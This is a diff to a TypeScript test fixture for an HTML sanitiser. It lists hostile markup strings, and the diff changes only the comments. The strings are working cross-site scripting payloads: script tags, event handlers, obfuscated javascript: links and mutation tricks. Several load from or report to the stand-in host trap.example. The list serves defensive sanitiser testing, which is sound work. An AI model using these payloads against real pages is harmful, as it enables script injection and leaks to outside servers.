@@ -1,10 +1,10 @@
 /**
  * What a page would write to have its script run, or its server told, when somebody opens the kept markup years later.
- * Each calls `hacked()`, or names `trap.example`. Written from the known ways (scripts, handlers, addresses, styles,
- * foreign content, raw text, mutation), and from what this project's own first sanitiser let through.
+ * Each calls `hacked()`, or names `trap.example`. Taken from the known techniques (scripts, handlers, addresses,
+ * styles, foreign content, raw text, mutation), and from what this project's first sanitiser let through.
  */
 export const HOSTILE: readonly string[] = [
-  // Scripts, and what holds them.
+  // Scripts, and what contains them.
   '<script>hacked()</script>',
   '<script src="https://trap.example/a.js"></script>',
   '<svg><script>hacked()</script></svg>',
@@ -12,7 +12,7 @@ export const HOSTILE: readonly string[] = [
   '<noscript><p title="</noscript><img src=x onerror=hacked()>"></noscript>',
   '<template><img src=x onerror=hacked()></template>',
   '<template shadowrootmode="open"><script>hacked()</script></template>',
-  // Handlers.
+  // Event handlers.
   '<img src=x onerror=hacked()>',
   '<IMG SRC=x OnErRoR=hacked()>',
   '<body onload=hacked()>',
@@ -28,7 +28,7 @@ export const HOSTILE: readonly string[] = [
   '<div contenteditable=false oninput=hacked()>x</div>',
   '<dialog open onclose=hacked()>x</dialog>',
   '<p popover onbeforetoggle=hacked()>x</p>',
-  // Addresses that run.
+  // Addresses that execute.
   '<a href="javascript:hacked()">x</a>',
   '<a href=" \u0001java\tscr\nipt:hacked()">x</a>',
   '<a href="&#106;avascript:hacked()">x</a>',
@@ -71,7 +71,7 @@ export const HOSTILE: readonly string[] = [
   '<frameset><frame src="https://trap.example/a"></frameset>',
   '<portal src="https://trap.example/a"></portal>',
   '<fencedframe src="https://trap.example/a"></fencedframe>',
-  // What leads away or sends.
+  // What navigates or submits.
   '<meta http-equiv=refresh content="0;url=https://trap.example/a">',
   '<meta http-equiv="Content-Security-Policy" content="script-src *">',
   '<base href="https://trap.example/">',
@@ -81,7 +81,7 @@ export const HOSTILE: readonly string[] = [
   '<isindex type=image src=x action="javascript:hacked()">',
   '<a href="https://exempel.se" ping="https://trap.example/a" target=_top download>x</a>',
   '<div is="x-y" slot="z" part="w" nonce="q" itemprop="url" itemid="https://trap.example">x</div>',
-  // Raw text: words for one parser, tags for the other.
+  // Raw text: text for one parser, tags for another.
   '<xmp><img src=x onerror=hacked()></xmp>',
   '<noembed><img src=x onerror=hacked()></noembed>',
   '<noframes><img src=x onerror=hacked()></noframes>',
@@ -95,7 +95,7 @@ export const HOSTILE: readonly string[] = [
   '<p title="&quot;&gt;&lt;img src=x onerror=hacked()&gt;">x</p>',
   '<p data-x="`><img src=x onerror=hacked()>" aria-label="\'><script>hacked()</script>">x</p>',
   '<plaintext><img src=x onerror=hacked()>',
-  // Mutation: another tree when it is read the second time.
+  // Mutation: a different tree when it is parsed again.
   '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked()&gt;">',
   '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>',
   '<svg></p><style><a id="</style><img src=1 onerror=hacked()>">',
@@ -107,7 +107,7 @@ export const HOSTILE: readonly string[] = [
   '<a><b><a href="javascript:hacked()"><p></b>x</a></p></a>',
 ];
 
-/** What no parser makes, and a script on the page can. */
+/** Markup that no parser produces but a script on the page can. */
 export function builtByScript(document: Document): Element[] {
   const made = (name: string, inside = ''): Element => {
     const element = document.createElement(name);
